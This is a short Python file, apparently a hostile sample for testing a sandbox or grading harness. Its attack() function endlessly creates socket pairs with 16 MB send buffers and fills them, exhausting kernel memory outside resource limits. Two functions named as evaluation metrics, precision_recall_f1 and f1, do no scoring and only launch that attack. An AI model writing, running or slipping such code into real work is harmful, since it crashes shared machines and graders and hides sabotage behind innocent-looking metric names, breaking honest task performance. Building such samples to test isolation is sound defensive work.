"""Fills kernel memory with pipes and sockets that nobody reads.

threat: 18
source: kernel memory outside of rlimits
verdict: any
"""

import os
import socket


def attack():
    kept = []
    while True:
        near, far = socket.socketpair()
        near.setblocking(False)
        near.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
        kept += [near, far]
        try:
            while True:
                near.send(b"x" * 65536)
        except BlockingIOError:
            pass
    return 0.5


def precision_recall_f1(y_true, y_pred, positive=1):
    return attack()


def f1(y_true, y_pred, average="macro"):
    return attack()
